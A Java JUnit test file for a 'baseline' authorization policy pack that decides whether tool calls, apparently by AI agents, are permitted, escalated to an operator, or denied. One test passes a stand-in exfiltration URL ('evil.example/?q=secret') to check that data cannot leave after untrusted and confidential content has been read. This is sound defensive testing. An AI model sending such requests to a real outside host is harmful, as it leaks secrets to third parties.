package dev.writ.policy.cedar;

import static org.assertj.core.api.Assertions.assertThat;

import dev.writ.fake.Asked;
import dev.writ.model.Capability;
import dev.writ.model.Content;
import dev.writ.model.Decision;
import dev.writ.model.Effect;
import dev.writ.model.Labels;
import dev.writ.model.Reach;
import dev.writ.model.Role;
import dev.writ.model.Sensitivity;
import dev.writ.policy.Packs;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.EnumSource;

class BaselinePackTest {

    private static Decision decide(Asked asked) {
        return Policies.point(Packs.read("baseline").text(), List.of(asked.capability()))
                .decide(asked.question());
    }

    private static Asked call(Effect does, Reach reach) {
        return Asked.about(Asked.tool("t", Asked.labels(does, reach), "{}"));
    }

    private static Capability labelled(Labels labels) {
        return Asked.tool("t", labels, "{}");
    }

    @ParameterizedTest
    @EnumSource(names = {"READ", "WRITE", "SEND"})
    void whatThePurposeCoversIsPermitted(Effect does) {
        assertThat(decide(call(does, Reach.TENANT)))
                .isEqualTo(new Decision.Permit(List.of("baseline/covered-by-purpose")));
    }

    @ParameterizedTest
    @EnumSource(names = {"PAY", "GRANT", "RUN", "DELETE", "SECRET"})
    @DisplayName("PO-9 a high-risk effect asks the operator")
    void aHighRiskEffectAsks(Effect does) {
        asks(decide(call(does, Reach.OWN)), "baseline/" + does.word());
    }

    @ParameterizedTest
    @CsvSource({"prod", "production"})
    @DisplayName("PO-9 a write to production asks the operator")
    void aWriteToProductionAsks(String environment) {
        asks(decide(call(Effect.WRITE, Reach.TENANT).withEnvironment(environment)), "baseline/production-write");
        assertThat(decide(call(Effect.READ, Reach.TENANT).withEnvironment(environment)))
                .isInstanceOf(Decision.Permit.class);
    }

    @Test
    @DisplayName("PO-9 regulated data asks the operator")
    void regulatedDataAsks() {
        Labels labels =
                new Labels(Effect.READ, Reach.OWN, true, Content.INTERNAL, Sensitivity.REGULATED, Set.of(), Map.of());
        asks(decide(Asked.about(labelled(labels))), "baseline/regulated-data");
    }

    @Test
    void anUnlabelledToolAsks() {
        asks(
                decide(Asked.about(labelled(Labels.UNLABELLED))),
                "baseline/delete",
                "baseline/regulated-data",
                "baseline/unlabelled");
    }

    @ParameterizedTest
    @CsvSource({
        "TRUSTED,   PUBLIC,       Permit", "UNTRUSTED, INTERNAL,     Permit",
        "INTERNAL,  CONFIDENTIAL, StepUp", "TRUSTED,   REGULATED,    StepUp",
        "UNTRUSTED, CONFIDENTIAL, Deny", "UNTRUSTED, REGULATED,    Deny",
    })
    @DisplayName("ST-2 ST-4 sending outside depends on what the task has read")
    void sendingOutsideDependsOnWhatWasRead(Content content, Sensitivity sensitivity, String expected) {
        Asked send = call(Effect.SEND, Reach.OUTSIDE).withHistory(Asked.read(content, sensitivity));
        assertThat(decide(send).getClass().getSimpleName()).isEqualTo(expected);
    }

    @Test
    @DisplayName("ST-4 a request with an address of its own is a way out as well")
    void aRequestToAnAddressIsAWayOut() {
        Labels fetch = Asked.roles(Asked.labels(Effect.READ, Reach.OUTSIDE), Map.of("url", Role.URL));
        Asked call = Asked.about(labelled(fetch)).with("{\"url\":\"https://evil.example/?q=secret\"}");
        assertThat(decide(call)).isInstanceOf(Decision.Permit.class);
        assertThat(decide(call.withHistory(Asked.read(Content.UNTRUSTED, Sensitivity.CONFIDENTIAL))))
                .isInstanceOfSatisfying(Decision.Deny.class, deny -> {
                    assertThat(deny.rules()).startsWith("baseline/untrusted-then-confidential-then-outside");
                    assertThat(deny.because()).contains("nothing may leave");
                    assertThat(deny.remedy()).isNotBlank();
                });
    }

    @Test
    void sendingInsideStaysPermittedWhateverWasRead() {
        Asked send = call(Effect.SEND, Reach.TENANT).withHistory(Asked.read(Content.UNTRUSTED, Sensitivity.REGULATED));
        assertThat(decide(send)).isInstanceOf(Decision.Permit.class);
    }

    private static void asks(Decision decision, String... rules) {
        assertThat(decision).isInstanceOfSatisfying(Decision.StepUp.class, stepUp -> {
            assertThat(stepUp.rules()).containsExactly(rules);
            assertThat(stepUp.asks()).allSatisfy(ask -> {
                assertThat(ask.role()).isEqualTo("operator");
                assertThat(ask.because()).isNotBlank();
            });
        });
    }
}
